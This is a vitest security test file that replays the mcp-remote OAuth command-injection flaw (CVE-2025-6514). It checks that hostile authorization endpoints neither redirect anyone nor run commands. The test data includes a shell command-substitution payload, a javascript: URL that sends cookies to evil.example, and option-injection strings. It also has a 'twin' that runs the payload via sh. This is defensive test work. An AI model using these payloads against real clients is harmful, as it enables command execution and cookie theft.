/**
 * mcp-remote (CVE-2025-6514): a server whose authorization server names an `authorization_endpoint` that the client hands to a shell. Oracles:
 * a file that the payload would write, and what a person would be sent to. The twin opens the address as mcp-remote up to 0.1.15 did.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { isFault } from '../../../src/lib/fault.ts';
import { consented, startOAuthRig } from '../../upstream/oauth-rig.ts';

const folder = mkdtempSync(join(tmpdir(), 'remit-replay-'));
afterAll(() => rmSync(folder, { recursive: true }));
const canary = join(folder, 'canary');
const PAYLOAD = `$(touch\${IFS}${canary})`;

/** What a person's browser would be sent to; null: nobody is sent anywhere. */
async function sentTo(endpoint: string): Promise<string | null> {
  const rig = await startOAuthRig();
  rig.site.metadata = { authorization_endpoint: endpoint };
  try {
    return (await rig.begin(consented())).url;
  } catch (fault) {
    if (!isFault(fault)) throw fault;
    expect(fault.code).toBe('upstream_auth');
    return null;
  }
}

describe('AN-10, AN-15: an address that would be a command', () => {
  test.each([
    ['a scheme of its own', `a:${PAYLOAD}?response_type=code`],
    ['a script', `javascript:fetch('http://evil.example/'+document.cookie)`],
    ['a file', 'file:///bin/sh'],
    ['data', 'data:text/html,<script>alert(1)</script>'],
    ['no address', PAYLOAD],
    ['an option', '--load-extension=/tmp/x'],
  ])('AN-10, AN-15: %s sends nobody anywhere and runs nothing', async (_name, endpoint) => {
    expect(await sentTo(endpoint)).toBeNull();
    expect(existsSync(canary)).toBe(false);
  });

  test('AN-15: words of a shell in an honest scheme stay an address', async () => {
    const url = await sentTo(`https://login.example/${PAYLOAD}`);
    expect(url === null || new URL(url).protocol === 'https:').toBe(true);
    expect(existsSync(canary)).toBe(false);
  });

  test('AN-10: twin: a client that opens what it is told through a shell runs it', () => {
    execFileSync('sh', ['-c', `true "a:${PAYLOAD}?response_type=code"`]);
    expect(existsSync(canary)).toBe(true);
    rmSync(canary);
  });
});
